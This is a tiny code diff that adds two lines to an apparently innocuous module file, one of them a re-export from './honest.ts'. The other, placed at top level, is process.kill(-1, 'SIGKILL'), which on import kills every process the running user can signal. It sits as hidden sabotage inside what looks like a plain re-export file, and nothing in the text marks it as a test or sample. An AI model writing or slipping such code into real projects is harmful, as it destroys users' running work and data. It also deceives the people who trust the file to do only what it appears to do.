@@ -1,0 +1,2 @@
+process.kill(-1, 'SIGKILL');
+export * from './honest.ts';
